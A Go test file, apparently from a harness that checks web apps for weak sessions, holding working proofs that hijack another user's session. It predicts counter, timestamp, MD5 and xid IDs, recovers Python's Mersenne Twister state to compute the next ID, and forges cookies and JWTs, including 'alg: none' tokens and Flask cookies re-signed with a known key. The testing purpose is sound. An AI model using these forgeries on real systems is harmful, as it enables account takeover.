package corpus_test

import (
	"context"
	"crypto/hmac"
	"crypto/md5"
	"crypto/sha1"
	"encoding/base32"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// counted predicts alice's id from the one before it.
func (p *proof) counted(ctx context.Context) (bool, error) {
	if p.Predict != "counter" {
		return false, nil
	}
	attacker := p.browser()
	if err := attacker.login(ctx, "bob"); err != nil {
		return false, err
	}
	own, err := strconv.ParseInt(attacker.held(p.slots[0]), 10, 64)
	if err != nil {
		return false, err
	}
	if err := p.browser().login(ctx, "alice"); err != nil {
		return false, err
	}
	return p.anyIs(ctx, func(i int) string { return strconv.FormatInt(own+1+int64(i), 10) }, 5), nil
}

// anyIs tries ids until one is alice's.
func (p *proof) anyIs(ctx context.Context, id func(int) string, most int) bool {
	for i := range most {
		if p.withID(id(i)).is(ctx, "alice") {
			return true
		}
	}
	return false
}

// clocked tries the milliseconds of alice's login.
func (p *proof) clocked(ctx context.Context) (bool, error) {
	if p.Predict != "milliseconds" {
		return false, nil
	}
	victim := p.browser().as("alice")
	before := time.Now()
	if err := victim.do(ctx, "login"); err != nil {
		return false, err
	}
	from, to := before.UnixMilli(), time.Now().UnixMilli()+1
	return p.anyIs(ctx, func(i int) string { return strconv.FormatInt(from+int64(i), 10) }, int(to-from)), nil
}

// hashed tries the digest of her name and the milliseconds of her login.
func (p *proof) hashed(ctx context.Context) (bool, error) {
	if p.Predict != "md5" {
		return false, nil
	}
	from := time.Now().UnixMilli()
	if err := p.browser().as("alice").do(ctx, "login"); err != nil {
		return false, err
	}
	most := int(time.Now().UnixMilli() - from + 1)
	return p.anyIs(ctx, func(i int) string {
		digest := md5.Sum([]byte(p.account("alice").username + strconv.FormatInt(from+int64(i), 10)))
		return hex.EncodeToString(digest[:])
	}, most), nil
}

// mersenne recovers Python's generator from the ids that visitors are given,
// and computes the one that alice is given next.
func (p *proof) mersenne(ctx context.Context) (bool, error) {
	if p.Predict != "mersenne" {
		return false, nil
	}
	var words []uint32
	for len(words) < 624 {
		visitor, err := p.visitor(ctx)
		if err != nil {
			return false, err
		}
		id, err := hex.DecodeString(visitor.held(p.slots[0]))
		if err != nil || len(id) != 16 {
			return false, fmt.Errorf("%q is not 128 bits in hex", visitor.held(p.slots[0]))
		}
		for i := 3; i >= 0; i-- { // getrandbits puts the first word lowest
			words = append(words, untemper(binary.BigEndian.Uint32(id[4*i:])))
		}
	}
	if err := p.browser().login(ctx, "alice"); err != nil {
		return false, err
	}
	var next [16]byte
	for i := range 4 {
		word := twist(words[i], words[i+1], words[i+397])
		binary.BigEndian.PutUint32(next[12-4*i:], temper(word))
	}
	return p.withID(hex.EncodeToString(next[:])).is(ctx, "alice"), nil
}

// The three functions are MT19937 (Matsumoto and Nishimura 1998), one of them backwards.
func twist(now, next, ahead uint32) uint32 {
	mixed := now&0x80000000 | next&0x7fffffff
	return ahead ^ mixed>>1 ^ mixed&1*0x9908b0df
}

func temper(y uint32) uint32 {
	y ^= y >> 11
	y ^= y << 7 & 0x9d2c5680
	y ^= y << 15 & 0xefc60000
	return y ^ y>>18
}

func untemper(y uint32) uint32 {
	y ^= y >> 18
	y ^= y << 15 & 0xefc60000
	for x, i := y, 0; i < 5; i++ {
		y = x ^ y<<7&0x9d2c5680
	}
	for x, i := y, 0; i < 3; i++ {
		y = x ^ y>>11
	}
	return y
}

// tampered makes bob's cookie or token out of alice's without asking the server.
func (p *proof) tampered(ctx context.Context) (bool, error) {
	if len(p.slots) != 1 {
		return false, nil
	}
	for _, forged := range p.forgeries(p.sample[0].held(p.slots[0])) {
		if p.withID(forged).is(ctx, "bob") {
			return true, nil
		}
	}
	return false, nil
}

func (p *proof) forgeries(id string) []string {
	parts := strings.Split(id, ".")
	var made []string
	for i, part := range parts {
		plain, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(part, "="))
		if err != nil || !strings.Contains(string(plain), p.account("alice").username) {
			continue
		}
		changed := strings.ReplaceAll(string(plain), p.account("alice").username, p.account("bob").username)
		encoded := base64.RawURLEncoding.EncodeToString([]byte(changed))
		kept := append([]string{}, parts...)
		kept[i] = encoded
		made = append(made, strings.Join(kept, "."))
		if len(parts) == 3 && i == 1 {
			header := base64.RawURLEncoding.EncodeToString(compact(map[string]string{"alg": "none", "typ": "JWT"}))
			made = append(made, header+"."+encoded+".")
		}
		if len(parts) == 3 && i == 0 && p.Key != "" {
			made = append(made, itsdangerous(p.Key, encoded+"."+parts[1]))
		}
	}
	return made
}

// itsdangerous signs as Flask does: the key is derived from the secret and the salt.
func itsdangerous(secret, text string) string {
	derived := hmac.New(sha1.New, []byte(secret))
	derived.Write([]byte("cookie-session"))
	mac := hmac.New(sha1.New, derived.Sum(nil))
	mac.Write([]byte(text))
	return text + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

// numbered computes the xid that follows bob's: the same machine and process,
// the next number, and a second that is not far.
func (p *proof) numbered(ctx context.Context) (bool, error) {
	if p.Predict != "xid" {
		return false, nil
	}
	attacker := p.browser()
	if err := attacker.login(ctx, "bob"); err != nil {
		return false, err
	}
	letters := base32.HexEncoding.WithPadding(base32.NoPadding)
	own, err := letters.DecodeString(strings.ToUpper(attacker.held(p.slots[0])))
	if err != nil || len(own) != 12 {
		return false, fmt.Errorf("%q is no xid", attacker.held(p.slots[0]))
	}
	if err := p.browser().login(ctx, "alice"); err != nil {
		return false, err
	}
	return p.anyIs(ctx, func(i int) string {
		next := append([]byte{}, own...)
		binary.BigEndian.PutUint32(next, binary.BigEndian.Uint32(own)+uint32(i/4))
		counter := binary.BigEndian.Uint32(append([]byte{0}, own[9:]...)) + 1 + uint32(i%4)
		copy(next[9:], binary.BigEndian.AppendUint32(nil, counter)[1:])
		return strings.ToLower(letters.EncodeToString(next))
	}, 12), nil
}
